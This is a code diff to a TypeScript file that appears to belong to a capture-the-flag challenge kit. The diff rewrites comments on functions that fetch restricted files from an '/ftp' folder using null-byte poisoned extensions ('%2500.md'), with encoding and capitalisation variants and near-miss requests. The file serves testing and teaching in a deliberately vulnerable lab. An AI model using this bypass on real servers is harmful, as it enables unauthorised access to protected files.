@@ -2,7 +2,7 @@ import type { Attack, Attacker } from '@fruit/challenge-kit/proof'
 
 const AS_JSON = { headers: { accept: 'application/json' } }
 
-/** What may stand behind a name that ends at a zero, as players and their tools write it. */
+/** Suffixes with a null byte that cut off the name. */
 const ENDS: Readonly<Record<string, string>> = {
   'the ending that notices have': '%2500.md',
   'the ending that confirmations have': '%2500.pdf',
@@ -17,10 +17,10 @@ const ENDS: Readonly<Record<string, string>> = {
 }
 
 /**
- * Gets a document out of the public folder that stays there by its ending: finds its name in the list, asks for it, hears
- * which endings are let through, and writes one of them behind a zero at which the name ends.
+ * Downloads a document that the public folder does not serve. It finds the name in the listing, requests it, reads the accepted extensions
+ * in the error and appends one of them after a null byte.
  *
- * @param name as it stands in the list: where that is not shown, the name is guessed
+ * @param name as in the listing; if there is no listing, the name is guessed
  */
 export async function fetchPoisoned(attacker: Attacker, name: string): Promise<void> {
   const listing = await attacker.get('/ftp', AS_JSON)
@@ -31,7 +31,7 @@ export async function fetchPoisoned(attacker: Attacker, name: string): Promise<v
   await attacker.get(`/ftp/${found}%2500${ending}`)
 }
 
-/** Other ways to write that last request. */
+/** Variants of the last request. */
 export function spellingsOf(name: string): Record<string, Attack> {
   const capitals: Attack = (attacker) => attacker.get(`/ftp/${name.toUpperCase()}%2500.md`)
   const encoded: Attack = (attacker) => attacker.get(`/ftp/${name.replaceAll('.', '%2e')}%2500.md`)
@@ -47,7 +47,7 @@ export function spellingsOf(name: string): Record<string, Attack> {
   }
 }
 
-/** What comes close with this name, and gets nothing. */
+/** Similar requests that must not return the document. */
 export function nearMissesOf(name: string): Record<string, Attack> {
   return {
     'the name as it is': (attacker) => attacker.get(`/ftp/${name}`),
